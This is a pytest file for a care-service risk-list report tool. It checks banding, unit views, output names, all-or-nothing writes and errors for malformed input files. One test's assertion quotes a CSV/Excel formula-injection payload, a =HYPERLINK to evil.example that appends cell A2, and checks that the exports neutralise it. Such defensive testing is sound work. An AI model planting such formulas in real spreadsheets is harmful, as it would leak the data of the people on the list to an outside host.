"""Case-manager reports from risk lists built directly (no model): bands, unit views, safe exports, output names.

Issue 11 cases 6-8 (report): formula injection in CSV/Excel, a CSV risk list, a
clients table given as a risk list, unit names with rich markup, --top below 1,
``--out rr.csv``, all outputs or none.
"""
import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from models.risklists import (FORMULA_STARTS, RiskListError, band, band_codes, export_frame, neutralise_formula,
                              read_risklist, unit_view)
from risklist_data import EVIL, make_risklist
from sote.cli import app
from worklist.report import report_paths, write_report

runner = CliRunner()
MARKUP_UNIT = "tuusula [kotihoito]"


@pytest.fixture(scope="module")
def lists(tmp_path_factory):
    root = tmp_path_factory.mktemp("lists")
    risk = make_risklist(units=("tuusula_hyrylä", EVIL, MARKUP_UNIT), per_unit=30, seed=1)
    previous = make_risklist(units=("tuusula_hyrylä", EVIL, MARKUP_UNIT), per_unit=30, seed=2, as_of="2024-01-01")
    risk.to_parquet(root / "risk.parquet", index=False)
    risk.to_csv(root / "risk.csv", index=False)
    previous.to_parquet(root / "previous.parquet", index=False)
    return root, risk, previous


def test_bands_follow_the_base_rate_thresholds():
    p = pd.Series([0.01, 0.37, 0.375, 0.74, 0.75, 0.9])  # base rate 0.25: thresholds at 0.375 and 0.75
    assert band_codes(p, 0.25).tolist() == ["usual", "usual", "raised", "raised", "high", "high"]
    assert band(p, 0.25, "fi").tolist() == ["tavanomainen"] * 2 + ["kohonnut"] * 2 + ["korkea"] * 2
    assert band(p, 0.25, "sv").iloc[-1] == "hög"
    with pytest.raises(ValueError, match="base rate"):
        band_codes(p, 0.0)


def test_unit_view_keeps_the_unit_best_first_and_marks_who_is_new(lists):
    _, risk, previous = lists
    view = unit_view(risk, MARKUP_UNIT, 10, previous)
    assert len(view) == 10 and set(view["unit"]) == {MARKUP_UNIT}
    assert view["rank"].is_monotonic_increasing
    assert view["rank"].tolist() == sorted(risk.loc[risk["unit"] == MARKUP_UNIT, "rank"])[:10]
    before = previous[previous["unit"] == MARKUP_UNIT].nsmallest(10, "rank")["client_id"]
    assert view["new_on_list"].tolist() == (~view["client_id"].isin(before)).tolist()
    assert not unit_view(risk, MARKUP_UNIT, 10)["new_on_list"].any()  # no previous list: nobody is new
    for top in (0, -5, 2.5):
        with pytest.raises(ValueError, match="at least 1"):
            unit_view(risk, MARKUP_UNIT, top)
    with pytest.raises(ValueError, match="has no clients"):
        unit_view(risk, "atlantis", 10)


def test_formula_like_text_is_neutralised_and_the_rest_kept():
    for start in FORMULA_STARTS:
        assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"
    for value in ("tuusula", "", "3 visits", None, 3.5, "a=b"):
        assert neutralise_formula(value) == value


def test_excel_and_csv_exports_are_inert(lists, tmp_path):
    root, risk, _ = lists
    paths = write_report(root / "risk.parquet", tmp_path / "evil", unit=EVIL, top=12, lang="en")
    sheet = openpyxl.load_workbook(paths["xlsx"]).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header[:3] == ["rank", "client_id", "unit"] and len(rows) == 13
    types = {c.data_type for row in rows for c in row}
    assert "f" not in types  # no formula anywhere
    unit_col = header.index("unit")
    for row in rows[1:]:
        cell = row[unit_col]
        assert cell.data_type == "s" and cell.value == "'" + EVIL
        assert row[header.index("rank")].data_type == "n" and row[header.index("client_id")].data_type == "s"
    csv = pd.read_csv(paths["csv"], dtype=str)
    assert (csv["unit"] == "'" + EVIL).all() and len(csv) == 12
    assert not csv.apply(lambda col: col.dropna().str.startswith(FORMULA_STARTS)).any().any()
    html = paths["html"].read_text()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A2" in html  # escaped text, not a link
    exported = export_frame(unit_view(risk, EVIL, 12), "en")
    assert exported["client_id"].tolist() == csv["client_id"].tolist()


def test_outputs_are_named_from_a_base_name_and_never_overwrite_each_other(lists, tmp_path):
    root, _, _ = lists
    assert {k: p.name for k, p in report_paths(tmp_path / "rr.csv").items()} == {
        "html": "rr.html", "csv": "rr.csv", "xlsx": "rr.xlsx"}
    assert report_paths(tmp_path / "r.2025.XLSX")["html"].name == "r.2025.html"
    assert report_paths(tmp_path / "tuusula.v2")["csv"].name == "tuusula.v2.csv"
    res = runner.invoke(app, ["report", "--risklist", str(root / "risk.parquet"), "--out", str(tmp_path / "rr.csv"),
                              "--unit", "tuusula_hyrylä", "--top", "7"])
    assert res.exit_code == 0, res.output
    assert (tmp_path / "rr.html").read_text().startswith("<!doctype html>")
    assert len(pd.read_csv(tmp_path / "rr.csv")) == 7
    assert openpyxl.load_workbook(tmp_path / "rr.xlsx").active.max_row == 8


def test_a_csv_risk_list_reads_like_the_parquet_and_reports(lists, tmp_path):
    root, risk, _ = lists
    pd.testing.assert_frame_equal(read_risklist(root / "risk.csv"), read_risklist(root / "risk.parquet"))
    res = runner.invoke(app, ["report", "--risklist", str(root / "risk.csv"), "--out", str(tmp_path / "r"),
                              "--previous", str(root / "previous.parquet"), "--unit", MARKUP_UNIT, "--lang", "sv"])
    assert res.exit_code == 0, res.output
    assert all((tmp_path / f"r.{kind}").exists() for kind in ("html", "csv", "xlsx"))
    csv = pd.read_csv(tmp_path / "r.csv")
    assert len(csv) == 30 and set(csv["unit"]) == {MARKUP_UNIT}
    assert "Risklista: tuusula [kotihoito]" in (tmp_path / "r.html").read_text()


def test_a_failed_export_writes_nothing_and_keeps_the_previous_report(lists, tmp_path, monkeypatch):
    root, _, _ = lists
    first = write_report(root / "risk.parquet", tmp_path / "r.html", unit="tuusula_hyrylä", top=5)
    before = {kind: path.read_bytes() for kind, path in first.items()}

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device", str(tmp_path / ".r.xlsx.abc123.tmp"))

    import worklist.report

    monkeypatch.setattr(worklist.report, "write_xlsx", broken)
    with pytest.raises(OSError):
        write_report(root / "risk.parquet", tmp_path / "r.html", unit="tuusula_hyrylä", top=20)
    assert {kind: path.read_bytes() for kind, path in first.items()} == before
    with pytest.raises(OSError):
        write_report(root / "risk.parquet", tmp_path / "new", unit="tuusula_hyrylä", top=20)
    left = sorted(p.name for p in tmp_path.iterdir() if p.name != ".sote-manifest.json")
    assert left == ["r.csv", "r.html", "r.xlsx"]  # no temporaries either


@pytest.mark.parametrize("top", ["-5", "0"])
def test_top_below_one_is_refused_naming_the_option(lists, tmp_path, top):
    root, _, _ = lists
    res = runner.invoke(app, ["report", "--risklist", str(root / "risk.parquet"), "--out", str(tmp_path / "r"),
                              "--top", top])
    assert res.exit_code == 2 and "--top" in res.output and "Traceback" not in res.output
    assert list(tmp_path.iterdir()) == []


def test_unit_names_are_echoed_literally(lists, tmp_path):
    root, _, _ = lists
    for unit in ("[/]", "kerava [kotihoito]"):
        res = runner.invoke(app, ["report", "--risklist", str(root / "risk.parquet"), "--out", str(tmp_path / "r"),
                                  "--unit", unit])
        assert res.exit_code == 2, res.output
        assert f"unit {unit!r} has no clients on this list" in res.output
        assert "tuusula [kotihoito]" in res.output  # the units it does have, brackets and all
        assert "MarkupError" not in res.output and "Traceback" not in res.output
    assert list(tmp_path.iterdir()) == []


def test_a_clients_table_is_not_a_risk_list(lists, tmp_path):
    clients = pd.DataFrame({"client_id": ["c1", "c2"], "birth_date": ["1950-01-01", "1960-05-05"],
                            "unit": ["a", "b"]})
    clients.to_parquet(tmp_path / "clients.parquet", index=False)
    res = runner.invoke(app, ["report", "--risklist", str(tmp_path / "clients.parquet"), "--out",
                              str(tmp_path / "r")])
    assert res.exit_code == 2, res.output
    assert "clients.parquet is not a risk list: missing columns municipality, probability, rank" in res.output
    assert "Traceback" not in res.output and not (tmp_path / "r.html").exists()


def test_broken_risk_lists_name_the_file_and_the_problem_never_a_client(lists, tmp_path):
    _, risk, _ = lists
    bad = risk.copy()
    bad.loc[:2, "probability"] = 1.5
    bad.to_parquet(tmp_path / "bad.parquet", index=False)
    with pytest.raises(RiskListError, match=r"bad.parquet is not a valid risk list: column 'probability'.*3 row") as err:
        read_risklist(tmp_path / "bad.parquet")
    dup = pd.concat([risk, risk.head(1)], ignore_index=True)
    dup.to_parquet(tmp_path / "dup.parquet", index=False)
    with pytest.raises(RiskListError, match="column 'client_id'") as err:
        read_risklist(tmp_path / "dup.parquet")
    assert risk["client_id"].iloc[0] not in str(err.value)
    (tmp_path / "latin1.csv").write_bytes(risk.head(3).to_csv(index=False).replace("ä", "\xe4").encode("latin-1"))
    with pytest.raises(RiskListError, match="latin1.csv is not UTF-8 text"):
        read_risklist(tmp_path / "latin1.csv")
    (tmp_path / "text.csv").write_text(risk.head(3).assign(rank="first").to_csv(index=False))
    with pytest.raises(RiskListError, match="column 'rank' needs a whole number"):
        read_risklist(tmp_path / "text.csv")
    (tmp_path / "x.parquet").write_text("not parquet")
    with pytest.raises(RiskListError, match="x.parquet is not a readable Parquet file"):
        read_risklist(tmp_path / "x.parquet")
    (tmp_path / "r.json").write_text("{}")
    with pytest.raises(RiskListError, match="use a .parquet or .csv"):
        read_risklist(tmp_path / "r.json")
    with pytest.raises(FileNotFoundError, match="risk list not found"):
        read_risklist(tmp_path / "missing.parquet")
